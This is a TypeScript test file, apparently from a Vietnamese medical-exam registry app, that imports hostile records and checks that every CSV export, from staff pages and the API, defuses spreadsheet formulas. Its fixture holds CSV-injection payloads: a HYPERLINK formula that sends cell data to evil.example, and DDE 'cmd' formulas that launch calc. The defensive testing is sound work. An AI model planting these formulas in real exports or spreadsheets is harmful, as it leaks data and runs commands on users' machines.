import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { bookings, broadcastRecipients, broadcasts, cadres, examSlots } from '../src/store/schema';
import { campaignWithSlots } from './bookingSupport';
import { startHarness, type Harness } from './harness';
import { api, csvFile, HEADERS, login, makeStaff, seedClinics, tokenFor, type Session } from './staffSupport';

/**
 * Hostile values imported into the registry come back from every CSV export as plain text: no cell starts with
 * = + - @, a tab or a carriage return, so a spreadsheet never runs them.
 */

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  unit: '+cmd|\' /C calc\'!A0',
  email: '@SUM(1+1)*cmd|\' /C calc\'!A0',
};
const DAY = '2026-03-02';
let h: Harness;
let admin: Session;
let token: string;
let campaignId = 0;
let clinicA = 0;
let broadcastId = 0;

beforeAll(async () => {
  h = await startHarness({ env: { ROLES: 'web' } });
  clinicA = seedClinics(h).a;
  const user = await makeStaff(h, 'csv-admin', 'admin');
  admin = await login(h, user.username);
  token = tokenFor(h, user.id);
  const line = (cells: string[]) => cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(',');
  const fd = new FormData();
  fd.append(
    'file',
    csvFile(
      [
        line(HEADERS),
        line(['CB900', HOSTILE.name, '01/02/1950', 'Nam', 'Nguyên chức', HOSTILE.unit, '0912 345 900', '', 'PKA', 'II', 'Không', 'Có']),
        line(['-CB901', '\tTrần Văn Tab', '02/03/1951', 'Nam', 'Nguyên chức', '-1+2', '', '', 'PKA', '', 'Không', 'Có']),
      ].join('\r\n'),
    ),
  );
  const imported = await api(h, '/api/registry/import', token, { method: 'POST', body: fd });
  expect(imported.status, await imported.clone().text()).toBe(200);
  const db = h.runtime.store.db;
  const now = h.clock.now();
  const hostileCadre = db.select().from(cadres).where(eq(cadres.code, 'CB900')).get()!;
  expect(hostileCadre.fullName).toBe(HOSTILE.name);
  const campaign = campaignWithSlots(h, { clinicIds: [clinicA] }, { fromDate: DAY, toDate: DAY });
  campaignId = campaign.id;
  const slot = db.select().from(examSlots).where(eq(examSlots.campaignId, campaign.id)).get()!;
  db.insert(bookings).values({ campaignId, slotId: slot.id, cadreId: hostileCadre.id, createdAt: now, updatedAt: now }).run();
  broadcastId = db
    .insert(broadcasts)
    .values({ title: 'Lịch khám', text: 'Mời ông bà đi khám', segment: {}, status: 'done', requestedAt: now, startAt: now, createdAt: now, updatedAt: now, statusChangedAt: now })
    .returning({ id: broadcasts.id })
    .get().id;
  db.insert(broadcastRecipients).values({ broadcastId, cadreId: hostileCadre.id, status: 'skipped', reason: '=1+2', createdAt: now, updatedAt: now }).run();
});
afterAll(() => h?.stop());

function expectDefused(text: string, label: string) {
  expect(text.startsWith('\uFEFF'), label).toBe(true);
  const cells = (parse(text.slice(1), { relax_column_count: true }) as string[][]).flat();
  const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
  expect(live, label).toEqual([]);
  return cells;
}

describe('every CSV export defuses formulas', () => {
  it('registry, day list and broadcast results, from the pages and the API', async () => {
    const page = async (path: string) => h.runtime.app.request(path, { headers: { cookie: admin.cookie } });
    const exports: [string, () => Promise<Response>][] = [
      ['registry page', () => page('/staff/registry/export?format=csv')],
      ['registry API', () => api(h, '/api/registry/export?format=csv', token)],
      ['day list page', () => page(`/staff/booking/${campaignId}/day/export?clinicId=${clinicA}&date=${DAY}&format=csv`)],
      ['day list API', () => api(h, `/api/campaigns/${campaignId}/bookings/export?clinicId=${clinicA}&date=${DAY}&format=csv`, token)],
      ['broadcast page', () => page(`/staff/broadcasts/${broadcastId}/export?format=csv`)],
      ['broadcast API', () => api(h, `/api/broadcasts/${broadcastId}/results?format=csv`, token)],
    ];
    for (const [label, fetchIt] of exports) {
      const res = await fetchIt();
      expect(res.status, label).toBe(200);
      expect(res.headers.get('content-type'), label).toContain('text/csv');
      const cells = expectDefused(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()), label);
      // The value is still there, as text.
      expect(cells, label).toContain(`'${HOSTILE.name}`);
    }
  });
});
